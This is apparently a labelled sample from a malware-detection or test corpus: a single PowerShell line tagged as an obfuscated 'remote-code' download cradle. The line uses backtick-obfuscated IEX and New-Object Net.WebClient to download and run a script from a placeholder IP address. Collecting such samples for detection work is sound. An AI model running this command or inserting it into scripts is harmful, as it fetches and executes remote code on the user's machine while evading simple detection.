# description: Runs a download cradle with backticks inside IEX and New-Object.
# family: remote-code
# obfuscated: yes
I`E`X (Ne`w-`Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')
